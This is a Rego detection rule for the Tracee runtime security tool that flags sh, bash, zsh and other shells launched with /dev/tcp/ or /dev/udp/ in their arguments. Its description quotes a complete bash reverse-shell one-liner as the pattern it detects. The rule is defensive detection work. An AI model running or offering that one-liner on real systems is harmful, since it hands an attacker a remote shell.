package tracee.VGL_1042

import data.tracee.helpers

__rego_metadoc__ := {
	"id": "VGL-1042",
	"version": "1.0.0",
	"name": "Shell redirection to /dev/tcp or /dev/udp",
	"eventName": "dev_tcp_shell",
	"description": "A shell was started with /dev/tcp/ or /dev/udp/ in its command line: the network redirections of bash (and ksh, zsh), as in bash -c 'bash -i >& /dev/tcp/host/port 0>&1', the common one-line reverse shell.",
	"tags": ["linux", "container"],
	"properties": {
		"Severity": 3,
		"MITRE ATT&CK": "Execution: Command and Scripting Interpreter: Unix Shell",
		"external_id": "T1059.004",
	},
}

eventSelectors := [
	{"source": "tracee", "name": "sched_process_exec", "origin": "*"},
]

tracee_selected_events[eventSelector] {
	eventSelector := eventSelectors[_]
}

# The shell that reads the redirection is the one whose command line holds
# it: only shells' arguments are searched, with contains.
shells := {"sh", "bash", "dash", "zsh", "ksh", "ash", "mksh"}

tracee_match = {"argv": argv} {
	input.eventName == "sched_process_exec"
	shells[input.processName]
	argv := helpers.get_tracee_argument("argv")
	contains(argv[_], "/dev/tcp/")
}

tracee_match = {"argv": argv} {
	input.eventName == "sched_process_exec"
	shells[input.processName]
	argv := helpers.get_tracee_argument("argv")
	contains(argv[_], "/dev/udp/")
}
